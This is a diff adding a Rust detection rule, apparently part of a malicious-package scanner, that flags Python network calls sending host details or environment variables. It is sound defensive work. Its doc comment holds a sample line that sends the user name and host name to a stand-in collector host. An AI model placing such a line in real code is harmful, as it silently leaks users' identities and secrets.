@@ -1,0 +1,81 @@
+use crate::finding::{Finding, Severity};
+use crate::python::{ExecContext, names, taint};
+use crate::rules::execution::install_time_execution::describe_taint;
+use crate::rules::{PackageFacts, Rule, RuleMeta, code_finding, declare_rule};
+
+declare_rule! {
+    /// Host details or environment variables sent over the network.
+    ///
+    /// ## What it finds
+    /// A network call (HTTP clients, `urllib`, sockets, DNS look-ups, SMTP,
+    /// FTP) whose arguments carry values read from the host — user and host
+    /// name, working directory, `platform` details — or from environment
+    /// variables, followed through variables, string building and local
+    /// functions. Install- and startup-time sends are reported by the
+    /// install and startup rules; this rule covers import time and runtime.
+    ///
+    /// ## Why it matters
+    /// Dependency-confusion probes and stealers announce each victim by
+    /// sending who and where it is, and environment variables hold CI
+    /// tokens and cloud keys. A library that does it on import does it to
+    /// everyone who installs it. Telemetry inside functions a user calls is
+    /// common and low.
+    ///
+    /// ## Example
+    /// ```python
+    /// import getpass, socket, requests
+    /// requests.get("https://collector.example/p", params={
+    ///     "u": getpass.getuser(), "h": socket.gethostname()})
+    /// ```
+    ///
+    /// ## References
+    /// MITRE ATT&CK T1082 (System Information Discovery), T1041
+    /// (Exfiltration Over C2 Channel); Alex Birsan, "Dependency Confusion"
+    /// (2021).
+    pub struct HostData {
+        id: "AY301",
+        slug: "host-data-exfiltration",
+        category: Exfiltration,
+        severity: Critical,
+    }
+}
+
+impl Rule for HostData {
+    fn meta(&self) -> &'static RuleMeta {
+        &Self::META
+    }
+
+    fn check(&self, facts: &PackageFacts<'_>, out: &mut Vec<Finding>) {
+        for file in facts.python {
+            for call in file.calls.iter().filter(|c| names::is_network(&c.name)) {
+                if matches!(call.context, ExecContext::Install | ExecContext::Startup) {
+                    continue;
+                }
+                let sends =
+                    call.all_args().fold(0, |t, a| t | a.taint) & (taint::HOST_INFO | taint::ENV);
+                if sends == 0 {
+                    continue;
+                }
+                let target = call
+                    .arg_texts()
+                    .find(|t| t.contains("://"))
+                    .unwrap_or("a remote host");
+                let mut f = code_finding(
+                    &Self::META,
+                    file,
+                    call,
+                    format!(
+                        "`{}` sends {} to {target} {}",
+                        call.name,
+                        describe_taint(sends),
+                        call.context.describe()
+                    ),
+                );
+                if call.context == ExecContext::Runtime {
+                    f.severity = Severity::Low;
+                }
+                out.push(f);
+            }
+        }
+    }
+}
